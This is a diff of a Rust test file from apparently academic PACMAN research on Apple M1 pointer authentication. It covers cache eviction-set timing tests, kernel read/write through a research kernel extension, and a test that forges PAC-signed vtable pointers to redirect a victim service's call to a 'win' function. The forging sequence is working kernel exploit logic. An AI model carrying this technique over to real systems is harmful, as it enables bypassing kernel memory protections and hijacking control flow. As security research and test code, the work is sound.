@@ -1,20 +1,37 @@
 /*!
  * Test code to manually create eviction sets and confirm data/ instruction contention is visible.
+ *
+ * Only `test_forge_pacs` works off Apple silicon (against the simulated kernel).
  */
 
-use crate::*;
 
+use crate::attacks::pacman::get_salt;
+use crate::error::PacmanError;
+use crate::pac::PAC_BITMASK;
+use crate::profile::{self, OffsetProfile};
+use crate::primitives::*;
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+use {
+    crate::cache::{self, get_cache_offset_m1, get_cache_set_m1, get_cache_tag_m1},
+    crate::counter::{read_counter, CTR},
+    crate::evset::{data_evset, inst_pevset},
+    crate::libdarwin::mach::gettime,
+    crate::qos::{set_core, CoreKind},
+    core::arch::asm,
+    core::ptr::read_volatile,
+};
 /**
  * Compare the different timers.
  */
-pub unsafe fn test_timers(shared_mem: &mut [u8]) {
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn test_timers(_shared_mem: &mut [u8]) {
     let mut x = 0;
     let t1_mach = gettime();
-    let t1 = read_volatile(&CTR);
+    let t1 = read_volatile(core::ptr::addr_of!(CTR));
     for i in 0..1000 {
         x = i / 2 + x;
     }
-    let t2 = read_volatile(&CTR);
+    let t2 = read_volatile(core::ptr::addr_of!(CTR));
     let t2_mach = gettime();
     println!("Time difference (thread): {}", t2 - t1);
     println!("Time difference (mach): {}", t2_mach - t1_mach);
@@ -24,6 +41,7 @@ pub unsafe fn test_timers(shared_mem: &mut [u8]) {
 /**
  * Demonstrate a data eviction set.
  */
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
 pub unsafe fn data_ev_set_test(shared_mem: &mut [u8]) {
     if !set_core(CoreKind::PCORE) {
         println!("Error setting CPU affinity!");
@@ -151,18 +169,11 @@ pub unsafe fn data_ev_set_test(shared_mem: &mut [u8]) {
 //     println!("Post eviction execution time: {}", t2_2 - t1_2);
 // }
 
-pub unsafe fn inst_pev_set_test(shared_mem: &mut [u8]) {
-    let handle = match PacmanKitConnection::init() {
-        Some(v) => v,
-        None => panic!("Couldn't connect to PacmanKit"),
-    };
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn inst_pev_set_test<K: KernelMemory + AddressTranslation>(handle: &K, shared_mem: &mut [u8]) -> Result<(), PacmanError> {
+    let kernel_mmap_va = handle.kernel_mmap()?;
 
-    let mut kernel_mmap_va = match handle.kernel_mmap() {
-        Ok(v) => v,
-        Err(err) => panic!("Couldn't call IOMalloc in the kernel!"),
-    };
-
-    let kernel_mmap_pa = handle.kernel_virt_to_phys(kernel_mmap_va).unwrap();
+    let kernel_mmap_pa = handle.kernel_virt_to_phys(kernel_mmap_va)?;
     let target_set = cache::get_cache_set_m1(kernel_mmap_pa);
     println!("Kernel mmap VA: 0x{:X}\n            PA: 0x{:X}\n", kernel_mmap_va, kernel_mmap_pa);
     println!("Generating eviction set to match address with L2 set {}...", target_set);
@@ -202,36 +213,37 @@ pub unsafe fn inst_pev_set_test(shared_mem: &mut [u8]) {
     println!("Uncached execution time: {}", t2 - t1);
     println!("Cached execution time: {}", t3 - t2);
     println!("Post eviction execution time: {}", t2_2 - t1_2);
+
+    return Ok(());
 }
 
 /**
- * Test the PacmanKitConnection methods.
+ * Test the PacmanKit primitives (on a PacmanKitConnection, or anything else that provides them).
  */
-pub unsafe fn test_pacmankit() {
-    let handle = PacmanKitConnection::init().unwrap();
-    let kernel_base = handle.get_kernel_base().unwrap();
+#[cfg(all(target_os = "macos", target_arch = "aarch64"))]
+pub unsafe fn test_pacmankit<K: KernelPrimitives>(handle: &K) -> Result<(), PacmanError> {
+    let kernel_base = handle.get_kernel_base()?;
     println!("Kernel base is at 0x{:X}", kernel_base);
-    println!("Kernel base contains 0x{:X}", handle.kernel_read(kernel_base).unwrap());
-    // handle.kernel_write(kernel_base, 0x4141414141414141).unwrap();
-    handle.kernel_write(kernel_base, 0x100000CFEEDFACF).unwrap();
-    println!("Kernel base contains 0x{:X}", handle.kernel_read(kernel_base).unwrap());
-    println!("Kernel base is at 0x{:X}", handle.kernel_virt_to_phys(kernel_base).unwrap());
-    let user_addr = (&handle as *const _) as u64;
-    println!("User address 0x{:X} has physical address 0x{:X}", user_addr, handle.user_virt_to_phys(user_addr).unwrap());
-    println!("Handle is at 0x{:X}", handle.get_handle_loc().unwrap());
+    println!("Kernel base contains 0x{:X}", handle.kernel_read(kernel_base)?);
+    // handle.kernel_write(kernel_base, 0x4141414141414141)?;
+    handle.kernel_write(kernel_base, 0x100000CFEEDFACF)?;
+    println!("Kernel base contains 0x{:X}", handle.kernel_read(kernel_base)?);
+    println!("Kernel base is at 0x{:X}", handle.kernel_virt_to_phys(kernel_base)?);
+    let user_addr = (handle as *const K) as u64;
+    println!("User address 0x{:X} has physical address 0x{:X}", user_addr, handle.user_virt_to_phys(user_addr)?);
+    println!("Handle is at 0x{:X}", handle.get_handle_loc()?);
 
     let cache_test_addr = 0x17F;
     println!("Offset is {}", get_cache_offset_m1(cache_test_addr));
     println!("Set is 0x{:X}", get_cache_set_m1(cache_test_addr));
     println!("Tag is 0x{:X}", get_cache_tag_m1(cache_test_addr));
 
-    let kern_mmap_ptr = match handle.kernel_mmap() {
-        Ok(mmap_ptr) => mmap_ptr,
-        Err(error) => panic!("Failed to allocate kernel memory!"),
-    };
+    let kern_mmap_ptr = handle.kernel_mmap()?;
     println!("Got a pointer at 0x{:X}", kern_mmap_ptr);
 
-    handle.kernel_free().unwrap();
+    handle.kernel_free()?;
+
+    return Ok(());
 }
 
 /**
@@ -255,59 +267,63 @@ PacmanUser:
 +------------------+
 
 The PACs can be computed using:
-vtable_ptr = PACDA(address = vtable, salt = object | 0xd986);
-externalMethod_ptr = PACIA(address = externalMethod, salt = (&vtable | 0xa7d5))
+vtable_ptr = PACDA(address = vtable, salt = object | VTABLE_POINTER);
+externalMethod_ptr = PACIA(address = externalMethod, salt = (&vtable | VTABLE_ENTRY))
 ```
- */
-pub unsafe fn test_forge_pacs() {
-    // Handle is used for interfacing with PacmanKit
-    let handle = PacmanKitConnection::init().unwrap();
 
-    // Victim handle gives us a victim IOUserClient to exploit
-    let victim_handle = PacmanKitConnection::init().unwrap();
+where `VTABLE_POINTER` and `VTABLE_ENTRY` are the profile's salt constants (`0xd986` and `0xa7d5` on 21D62).
 
-    let iouserclient_base = victim_handle.get_handle_loc().unwrap();
-    let pacmankitservice = iouserclient_base + pacmankit::PACMANKIT_TO_HELPER;
-    let pacmankitservice_vtable = handle.kernel_read(pacmankitservice).unwrap();
+# Arguments
+* `handle`: A PacmanKit connection to forge with.
+* `victim_handle`: The connection whose PacmanKitService gets a forged vtable (calling `win` instead of `externalMethod`).
+* `profile`: Where the PacmanKitService is, and the salt constants.
+ */
+pub unsafe fn test_forge_pacs<K: KernelPrimitives>(handle: &K, victim_handle: &K, profile: &OffsetProfile) -> Result<(), PacmanError> {
+    let iouserclient_base = victim_handle.get_handle_loc()?;
+    let pacmankitservice = iouserclient_base + profile.field(profile::PACMANKIT_HELPER)?;
+    let pacmankitservice_vtable = handle.kernel_read(pacmankitservice)?;
     let pacmankitservice_vtable_masked = pacmankitservice_vtable | PAC_BITMASK;
-    let pacmankitservice_externalMethod = handle.kernel_read(pacmankitservice_vtable).unwrap();
-    let pacmankitservice_externalMethod_masked = pacmankitservice_externalMethod | PAC_BITMASK;
+    let pacmankitservice_external_method = handle.kernel_read(pacmankitservice_vtable)?;
+    let pacmankitservice_external_method_masked = pacmankitservice_external_method | PAC_BITMASK;
     println!("IOService is at 0x{:X}", iouserclient_base);
     println!("PacmanKitService is at 0x{:X}", pacmankitservice);
     println!("PacmanKitService`vtable is at 0x{:X}", pacmankitservice_vtable_masked);
     println!("PacmanKitService`vtable signed is 0x{:X}", pacmankitservice_vtable);
-    println!("PacmanKitService`externalMethod signed is 0x{:X}", pacmankitservice_externalMethod);
+    println!("PacmanKitService`externalMethod signed is 0x{:X}", pacmankitservice_external_method);
 
-    let salt_data = get_salt(pacmankitservice | PAC_BITMASK, 0xd986);
-    let salt_inst = get_salt(pacmankitservice_vtable | PAC_BITMASK, 0xa7d5);
+    let salt_data = get_salt(pacmankitservice | PAC_BITMASK, profile.discriminator(profile::VTABLE_POINTER)?);
+    let salt_inst = get_salt(pacmankitservice_vtable | PAC_BITMASK, profile.discriminator(profile::VTABLE_ENTRY)?);
 
     for _ in 0..1000 {
-        let forged_vtable_ptr = handle.forge_sign_data(pacmankitservice_vtable_masked, salt_data).unwrap();
-        let forged_vtable_entry = handle.forge_sign_inst(pacmankitservice_externalMethod_masked, salt_inst).unwrap();
+        let forged_vtable_ptr = handle.forge_sign_data(pacmankitservice_vtable_masked, salt_data)?;
+        let forged_vtable_entry = handle.forge_sign_inst(pacmankitservice_external_method_masked, salt_inst)?;
         println!("Forge-signed vtable is 0x{:X}", forged_vtable_ptr);
         println!("Forge-signed externalMethod is 0x{:X}", forged_vtable_entry);
         assert_eq!(forged_vtable_ptr, pacmankitservice_vtable);
-        assert_eq!(forged_vtable_entry, pacmankitservice_externalMethod);
+        assert_eq!(forged_vtable_entry, pacmankitservice_external_method);
     }
 
-    let win_ptr = handle.leak_win().unwrap();
+    // leak_win is deprecated, use somewhere in the retpoline instead (like the attacks do)
+    let win_ptr = handle.leak_retpoline()? | (PAC_BITMASK + 0x30c0);
 
     // Manually call win:
-    // handle.kernel_exec_for_timing(win_ptr, true).unwrap();
+    // handle.kernel_exec_for_timing(win_ptr, true)?;
 
     // Forge vtable with mmap region and use that to call win:
-    let kernel_mmap = handle.kernel_mmap().unwrap();
-    let salt_data = get_salt(pacmankitservice | PAC_BITMASK, 0xd986);
-    let salt_inst = get_salt(kernel_mmap | PAC_BITMASK, 0xa7d5);
-    let new_vtable_ptr = handle.forge_sign_data(kernel_mmap, salt_data).unwrap();
-    let new_vtable_entry = handle.forge_sign_inst(win_ptr, salt_inst).unwrap();
+    let kernel_mmap = handle.kernel_mmap()?;
+    let salt_data = get_salt(pacmankitservice | PAC_BITMASK, profile.discriminator(profile::VTABLE_POINTER)?);
+    let salt_inst = get_salt(kernel_mmap | PAC_BITMASK, profile.discriminator(profile::VTABLE_ENTRY)?);
+    let new_vtable_ptr = handle.forge_sign_data(kernel_mmap, salt_data)?;
+    let new_vtable_entry = handle.forge_sign_inst(win_ptr, salt_inst)?;
 
-    handle.kernel_write(kernel_mmap | PAC_BITMASK, new_vtable_entry).unwrap();
-    handle.kernel_write(pacmankitservice | PAC_BITMASK, new_vtable_ptr).unwrap();
+    handle.kernel_write(kernel_mmap | PAC_BITMASK, new_vtable_entry)?;
+    handle.kernel_write(pacmankitservice | PAC_BITMASK, new_vtable_ptr)?;
 
     // This should not be redirected...
-    handle.call_service_routine(0, 1, 2, 3, 4, 5).unwrap();
+    handle.call_service_routine(0, 1, 2, 3, 4, 5)?;
 
     // And this one should be redirected!
-    victim_handle.call_service_routine(0, 1, 2, 3, 4, 5).unwrap();
+    victim_handle.call_service_routine(0, 1, 2, 3, 4, 5)?;
+
+    return Ok(());
 }